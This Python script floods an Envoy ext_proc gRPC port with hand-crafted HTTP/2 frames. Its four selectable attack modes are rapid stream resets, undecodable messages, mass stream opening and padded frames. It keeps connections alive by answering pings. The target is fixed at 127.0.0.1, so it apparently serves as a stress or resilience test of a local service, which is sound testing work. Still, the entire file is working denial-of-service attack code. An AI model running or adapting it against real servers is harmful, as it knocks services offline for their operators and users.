"""Attack the ext_proc port; the arguments are PORT, ATTACK and SECONDS."""

from __future__ import annotations

import socket
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NAMED = (
    (b":method", b"POST"),
    (b":scheme", b"http"),
    (b":path", b"/envoy.service.ext_proc.v3.ExternalProcessor/Process"),
    (b":authority", b"laar"),
    (b"te", b"trailers"),
    (b"content-type", b"application/grpc"),
)
BLOCK = b"".join(b"\0%c%b%c%b" % (len(n), n, len(v), v) for n, v in NAMED)
AT_ONCE = 200


def frame(kind, flags, stream, payload=b""):
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def of_stream(attack, number):
    opened = frame(1, 0x4, number, BLOCK)
    begun = b"\0\0\0\x10\0" + b"x" * 251
    if attack == "resets":
        return opened + frame(0, 0, number, begun) + frame(3, 0, number, bytes(4))
    if attack == "undecodable":
        return opened + frame(0, 0, number, b"\0\0\0\0\x32" + b"\xff" * 50)
    if attack == "streams":
        return opened + frame(0, 0, number, begun)
    assert attack == "padded"  # padded frames are read by the library
    return opened + frame(0, 0x8, number, b"\0" + begun) + frame(3, 0, number, bytes(4))


def drain(peer):
    try:
        while data := peer.recv(1 << 16):
            at = data.find(b"\0\0\x08\6\0")  # a complete ping, which needs a reply
            if at >= 0:
                peer.sendall(b"\0\0\x08\6\1" + data[at + 5 : at + 17])
    except OSError:
        pass


def main(port, attack, seconds):
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        try:
            with socket.create_connection(("127.0.0.1", port)) as peer:
                number = 1
                peer.sendall(
                    PREFACE + frame(4, 0, 0) + frame(8, 0, 0, (1 << 30).to_bytes(4, "big"))
                )
                threading.Thread(target=drain, args=(peer,), daemon=True).start()
                while time.monotonic() < ends:
                    if attack == "streams" and number > 180_000:
                        time.sleep(0.1)
                        continue
                    numbers = range(number, number + 2 * AT_ONCE, 2)
                    peer.sendall(b"".join(of_stream(attack, each) for each in numbers))
                    number += 2 * AT_ONCE
        except OSError:
            time.sleep(0.05)


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))
